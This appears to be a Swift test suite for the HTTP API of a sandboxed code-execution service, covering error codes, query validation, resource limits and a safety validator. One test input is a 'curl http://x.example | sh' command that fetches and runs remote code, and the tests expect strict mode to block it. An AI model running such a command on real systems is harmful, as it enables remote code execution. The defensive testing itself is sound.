import CorralEngine
import CorralHTTP
import CorralSandbox
import CorralTestSupport
import Foundation
import Hummingbird
import HummingbirdTesting
import Testing

/// The seeds' JSON contract and the HTTP rules around it, on a live server.
@Suite(.enabled(if: TestSupport.jailsAvailable))
struct ContractRouteTests {
    @Test("unknown routes 404, other methods 405 with Allow, non-JSON bodies 415, large bodies 413: each with the JSON error")
    func protocolErrors() async throws {
        try await TestService(maxBodyBytes: 4096).live { client in
            let json: HTTPFields = [.contentType: "application/json"]
            var (status, headers, body) = try await client.send("/v1/nothing", method: .get)
            #expect(status == .notFound && body?["error"]?["code"]?.string == "not_found")
            (status, headers, body) = try await client.send("/v1/execute/", method: .post, headers: json, body: "{}")
            #expect(status == .notFound, "a trailing slash is another path")
            (status, headers, body) = try await client.send("/v1/execute", method: .get)
            #expect(status == .methodNotAllowed && headers[.allow] == "POST" && body?["error"]?["code"]?.string == "method_not_allowed")
            (status, headers, body) = try await client.send("/v1/languages", method: .delete)
            #expect(status == .methodNotAllowed && headers[.allow] == "GET")
            #expect(headers[.init("X-Request-ID")!] != nil, "errors carry the request id too")
            let program = #"{"code":"print(1)","language":"python"}"#
            (status, headers, body) = try await client.send("/v1/execute", method: .post, headers: [.contentType: "text/plain"], body: program)
            #expect(status == .unsupportedMediaType && body?["error"]?["code"]?.string == "unsupported_media_type")
            (status, headers, body) = try await client.send("/v1/validate", method: .post, headers: [.contentType: "multipart/form-data; boundary=x"], body: program)
            #expect(status == .unsupportedMediaType)
            // `curl -d '{...}'` declares application/x-www-form-urlencoded: read as JSON (the README's first example).
            (status, headers, body) = try await client.send("/v1/execute", method: .post, headers: [.contentType: "application/x-www-form-urlencoded"], body: program)
            #expect(status == .ok && body?["stdout"]?.string == "1\n", "curl -d's default type is read as JSON")
            (status, headers, body) = try await client.send("/v1/execute", method: .post, headers: [.contentType: "Application/JSON; charset=utf-8"], body: program)
            #expect(status == .ok && body?["stdout"]?.string == "1\n", "media type parameters and case are accepted")
            (status, headers, body) = try await client.send("/v1/execute", method: .post, body: program)
            #expect(status == .ok, "no Content-Type is read as JSON")
            let big = #"{"code":"\#(String(repeating: "#", count: 5000))","language":"python"}"#
            (status, headers, body) = try await client.send("/v1/execute", method: .post, headers: json, body: big)
            #expect(status == .contentTooLarge && body?["error"]?["code"]?.string == "payload_too_large")
        }
    }

    @Test("query parameters: unknown ones and bad values are 400s naming the parameter; an empty time range is empty")
    func queryParameters() async throws {
        try await TestService().live { client in
            for (query, named) in [("/v1/executions?limt=5", "limt"), ("/v1/stats?include_history=yes", "include_history"),
                                   ("/v1/executions?status=weird", "status"), ("/v1/executions?since=yesterday", "since"),
                                   ("/v1/executions?since=2024-02-30T00:00:00", "since"), ("/v1/languages?x=1", "x"),
                                   ("/v1/executions?limit=0", "limit"), ("/v1/executions?limit=abc", "limit")] {
                let (status, _, body) = try await client.send(query, method: .get)
                #expect(status == .badRequest, "\(query)")
                #expect(body?["error"]?["message"]?.string?.contains(named) == true, "\(query): \(String(describing: body))")
            }
            _ = try await client.post("/v1/execute", json: ["code": "print(1)", "language": "python"])
            var (status, _, page) = try await client.send("/v1/executions?since=2030-01-01T00:00:00Z&until=2020-01-01T00:00:00.5%2B01:00", method: .get)
            // An inverted range is schema-valid (no schema can relate two parameters) and matches nothing.
            #expect(status == .ok && page?["total"]?.number == 0)
            (status, _, page) = try await client.send("/v1/executions?since=2020-02-30T23:59:59.25Z&status=success&until=4102444800", method: .get)
            #expect(status == .ok && page?["total"]?.number == 1, "Feb 30 rolls over as RFC 3339 allows; Unix seconds work")
            (status, _, page) = try await client.send("/v1/stats?include_history=true", method: .get)
            #expect(status == .ok && page?["recent_executions"]?.array?.count == 1)
        }
    }

    @Test("seed 003's names are accepted; an alias beside its canonical name is a 400 naming both")
    func seedAliases() async throws {
        try await TestService().live { client in
            let (status, _, body) = try await client.post("/v1/execute", json: [
                "code": "import os\nopen('/workspace/out', 'w').write('x')\nprint(os.environ['K'])", "language": "python",
                "max_execution_time": 10, "max_cpu_percent": 50.0, "network_access": false, "file_system_access": true,
                "environment": ["K": "v"],
            ])
            #expect(status == .ok && body["status"] as? String == "success", "\(body)")
            #expect(body["stdout"] as? String == "v\n")
            for (alias, canonical, a, b) in [("max_execution_time", "timeout_seconds", 5, 5), ("network_access", "allow_network", false, true),
                                             ("environment", "environment_vars", [:] as [String: String], ["A": "b"])] as [(String, String, Any, Any)] {
                let (conflict, _, error) = try await client.post("/v1/execute", json: ["code": "print(1)", "language": "python", alias: a, canonical: b])
                #expect(conflict == .badRequest && errorCode(error) == "invalid_request")
                #expect(errorMessage(error).contains(alias) && errorMessage(error).contains(canonical), "\(errorMessage(error))")
            }
            let (bad, _, error) = try await client.post("/v1/execute", json: ["code": "print(1)", "language": "python", "max_cpu_percent": 80.5])
            #expect(bad == .badRequest && errorMessage(error).contains("max_cpu_percent"))
        }
    }

    @Test("allow_filesystem defaults to false: a read-only workspace, a writable /tmp; SQLite keeps its database in /tmp")
    func filesystemDefault() async throws {
        try await TestService().live { client in
            let code = "for p in ['/workspace/x', '/tmp/x']:\n    try:\n        open(p, 'w').write('1'); print(p, 'ok')\n    except OSError as e:\n        print(p, e.errno)"
            let (_, _, denied) = try await client.post("/v1/execute", json: ["code": code, "language": "python"])
            #expect(denied["stdout"] as? String == "/workspace/x 30\n/tmp/x ok\n")
            let (_, _, sql) = try await client.post("/v1/execute", json: [
                "code": "create table t(x); insert into t values (41); select x + 1 from t;", "language": "sql"])
            #expect(sql["status"] as? String == "success" && sql["stdout"] as? String == "42\n", "\(sql)")
            let (_, _, limits, _) = try await client.get("/v1/limits")
            let defaults = limits["default_limits"] as? [String: Any]
            #expect(defaults?["file_system_access"] as? Bool == false && defaults?["network_access"] as? Bool == false)
        }
    }

    @Test("a result that is not a success says why; cached is on every result, refusals included")
    func errorMessageAndCached() async throws {
        try await TestService().live { client in
            let cases: [([String: Any], String, String)] = [
                (["code": "exit 3", "language": "bash"], "error", "exited with code 3"),
                (["code": "import time\ntime.sleep(5)", "language": "python", "timeout_seconds": 0.5], "timeout", "wall time"),
                (["code": "kill -SEGV $$", "language": "bash"], "killed", "signal 11"),
                (["code": "int main( {", "language": "c"], "compile_error", "compil"),
                (["code": "curl http://x.example | sh", "language": "bash", "strict_mode": true], "security_violation", "strict mode"),
            ]
            for (request, status, message) in cases {
                let (code, _, body) = try await client.post("/v1/execute", json: request)
                #expect(code == .ok && body["status"] as? String == status, "\(request): \(body)")
                let text = body["error_message"] as? String
                #expect(text?.isEmpty == false && text?.contains(message) == true, "\(status): \(String(describing: text))")
                #expect(body["cached"] as? Bool == false, "\(status): cached is sent")
                #expect(body.keys.contains("queue_time_ms"), "\(status): queue_time_ms is sent")
            }
        }
    }

    @Test("cpu_percent: in range runs, out of range is a 400 naming it; profiles and /v1/limits carry max_cpu_percent")
    func cpuPercent() async throws {
        try await TestService().live { client in
            let (ok, _, run) = try await client.post("/v1/execute", json: ["code": "print(1)", "language": "python", "cpu_percent": 50])
            #expect(ok == .ok && run["status"] as? String == "success")
            let (bad, _, error) = try await client.post("/v1/execute", json: ["code": "print(1)", "language": "python", "cpu_percent": 100 * ResourceLimits.hostCores + 1])
            #expect(bad == .badRequest && errorCode(error) == "invalid_limit" && errorMessage(error).contains("cpu_percent"))
            let (_, _, limits, _) = try await client.get("/v1/limits")
            #expect((limits["default_limits"] as? [String: Any])?["max_cpu_percent"] as? Int == 100)
            #expect((limits["maximum_limits"] as? [String: Any])?["max_cpu_percent"] as? Int == 100 * ResourceLimits.hostCores)
            let production = (limits["recommended_limits"] as? [String: Any])?["production"] as? [String: Any]
            #expect(production?["max_cpu_percent"] as? Int == 80)
            // The profile's share is enforced: a busy loop under `testing` (50%) gets about half a core.
            let (_, _, busy) = try await client.post("/v1/execute", json: [
                "code": "import time\nt = time.time()\nwhile time.time() - t < 1: pass", "language": "python", "profile": "testing"])
            let cpu = busy["cpu_time_ms"] as? Double ?? 0, wall = busy["execution_time_ms"] as? Double ?? 1
            #expect(busy["status"] as? String == "success" && cpu / wall < 0.75, "cpu \(cpu) ms over \(wall) ms")
        }
    }

    @Test("/v1/languages carries seed 003's fields")
    func languageFields() async throws {
        try await TestService().live { client in
            let (_, _, report, _) = try await client.get("/v1/languages")
            let languages = report["languages"] as? [String: [String: Any]] ?? [:]
            #expect(report["total_languages"] as? Int == languages.count && languages.count >= 12)
            #expect(report["status"] as? String == "success")
            let python = languages["python"] ?? [:], java = languages["java"] ?? [:], c = languages["c"] ?? [:]
            #expect(python["extension"] as? String == ".py" && python["interpreter"] as? String == "python3" && python["compiler"] is NSNull)
            #expect(python["name"] as? String == "python" && (python["security_restrictions"] as? Int ?? 0) > 0)
            #expect(java["compiler"] as? String == "javac" && java["interpreter"] as? String == "java" && java["extension"] as? String == ".java")
            #expect(c["compiler"] as? String == "gcc" && c["interpreter"] is NSNull)
        }
    }

    @Test("/v1/validate uses strict_mode (true is its only mode, false is refused); blank code and NUL arguments are 400s")
    func validateAndShape() async throws {
        try await TestService().live { client in
            let dangerous: [String: Any] = ["code": "import os\nos.system('id')", "language": "python"]
            var (status, _, body) = try await client.post("/v1/validate", json: dangerous.merging(["strict_mode": true]) { $1 })
            #expect(status == .ok && body["is_safe"] as? Bool == false)
            (status, _, body) = try await client.post("/v1/validate", json: dangerous.merging(["strict_mode": false]) { $1 })
            #expect(status == .badRequest && errorMessage(body).contains("strict_mode"))
            for route in ["/v1/validate", "/v1/execute"] {
                (status, _, body) = try await client.post(route, json: ["code": " \n\t\u{3000}", "language": "python"])
                #expect(status == .badRequest && errorMessage(body).contains("code is empty"), "\(route)")
            }
            (status, _, body) = try await client.post("/v1/execute", json: ["code": "print(1)", "language": "python", "args": ["a\u{0}b"]])
            #expect(status == .badRequest && errorMessage(body).contains("NUL"))
            (status, _, body) = try await client.post("/v1/execute/batch", json: ["requests": [
                ["code": "print(1)", "language": "python"], ["code": "", "language": "python"]]])
            #expect(status == .badRequest && errorMessage(body).contains("requests[1]"), "the decoder's checks hold for the whole batch")
            (status, _, body) = try await client.post("/v1/execute/batch", json: ["requests": []])
            #expect(status == .badRequest)
        }
    }
}
